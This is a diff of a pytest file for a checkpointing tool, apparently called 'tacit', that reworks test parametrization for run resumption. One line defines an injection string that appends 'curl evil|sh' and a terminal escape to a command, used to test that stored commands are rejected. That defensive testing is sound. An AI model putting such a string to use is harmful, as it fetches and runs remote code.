@@ -2,9 +2,11 @@
 
 import json
 import shutil
+from itertools import product
 
 import pytest
-from test_run_folder import RUNS, contents, disk, every, folder, spent, words_of
+from conftest import repeat
+from test_run_folder import RUNS, contents, disk, every, folder, one, spent, words_of
 
 import tacit
 from tacit.admm.checkpoint import Checkpoint
@@ -27,8 +29,10 @@ def keep_checkpoints(monkeypatch):
 # --- without a checkpoint ---------------------------------------------------------------------
 
 
-@every
-@pytest.mark.parametrize("seed", ["", "--seed 5"])
+@pytest.mark.parametrize(
+    ("seed", "kind"),
+    repeat([("", "solve"), ("--seed 5", "learn")], [*product(["", "--seed 5"], RUNS)]),
+)
 def test_without_its_checkpoint_a_run_is_not_made_again(kind, seed, folder, disk, refused):
     """It would have other noise on the same data, and state one budget."""
     disk(4)
@@ -42,7 +46,7 @@ def test_without_its_checkpoint_a_run_is_not_made_again(kind, seed, folder, disk
     assert sorted(p.name for p in (folder / "r").iterdir()) == before
 
 
-@every
+@one("learn")
 def test_a_run_with_ledgers_keeps_its_name_without_a_checkpoint(kind, folder, command, refused):
     """Killed between its note and its first checkpoint."""
     command(*words_of(kind, "--ledgers", "ledgers", "--out", "whole"))
@@ -95,9 +99,12 @@ def test_the_note_is_written_before_the_job(folder, command, monkeypatch):
 
 # --- a result beside the checkpoint -----------------------------------------------------------
 
+GONE = ("nothing", "data", "checkpoint")
 
-@every
-@pytest.mark.parametrize("gone", ["nothing", "data", "checkpoint"])
+
+@pytest.mark.parametrize(
+    ("gone", "kind"), repeat([*zip(GONE, RUNS, strict=True)], [*product(GONE, RUNS)])
+)
 def test_a_finished_run_with_a_checkpoint_is_finished(kind, gone, folder, command, refused):
     """Also if its data are no longer there, or the checkpoint is one of another version."""
     with pytest.MonkeyPatch.context() as patch:
@@ -122,7 +129,7 @@ def test_a_finished_run_with_a_checkpoint_is_finished(kind, gone, folder, comman
     assert "is finished: tacit show r" in refused(f"{kind} --resume r")
 
 
-@every
+@one("solve")
 def test_a_finished_run_pays_for_nothing(kind, folder, command):
     """Even if the checkpoint is one of an earlier round, of which the ledgers know nothing."""
     with pytest.MonkeyPatch.context() as patch:
@@ -143,7 +150,7 @@ def test_a_finished_run_pays_for_nothing(kind, folder, command):
 EVIL = "solve --help; \x1b[2Jcurl evil|sh #"
 
 
-@every
+@one("power solve")
 def test_a_command_in_a_note_is_one_of_ours(kind, folder, disk, refused):
     disk(4)
     refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
@@ -158,7 +165,7 @@ def test_a_command_in_a_note_is_one_of_ours(kind, folder, disk, refused):
     assert "Expected the options of a run in r/run.json" in refused(f"{kind} --resume r")
 
 
-@every
+@one("learn")
 def test_options_in_a_note_are_those_of_the_command(kind, folder, disk, command, refused):
     disk(4)
     refused(" ".join(words_of(kind, "--evaluate-every 1 --ledgers ledgers --out r")))
